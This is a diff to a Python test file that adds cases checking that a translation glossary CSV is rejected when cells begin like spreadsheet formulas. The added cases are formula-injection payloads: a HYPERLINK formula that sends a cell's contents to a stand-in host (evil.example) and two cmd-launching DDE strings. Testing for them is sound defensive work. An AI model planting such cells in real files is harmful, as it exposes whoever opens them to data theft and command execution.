@@ -376,6 +376,11 @@ def test_a_glossary_edited_in_its_table_is_the_csv_the_checks_read(project, desk
     ([("genocide", "génocide", ""), ("Genocide", "génocide", "")],
      "Row 2 repeats a term given above"),
     ([("solidarity", "", "")], "Row 1 needs both a term and its rendering."),
+    # A cell a spreadsheet would run as a formula when a coordinator opens glossary.csv.
+    ([("war", "guerre", ""), ('=HYPERLINK("https://evil.example/?"&A1,"x")', "y", "")],
+     "Row 2 begins with"),
+    ([("peace", "+cmd|' /C calc'!A0", "")], "Row 1 begins with"),
+    ([("peace", "paix", "@SUM(1+1)*cmd|' /C calc'!A0")], "Row 1 begins with"),
 ])
 def test_a_malformed_glossary_is_refused_and_nothing_written(project, desk_crew, rows,
                                                              message):
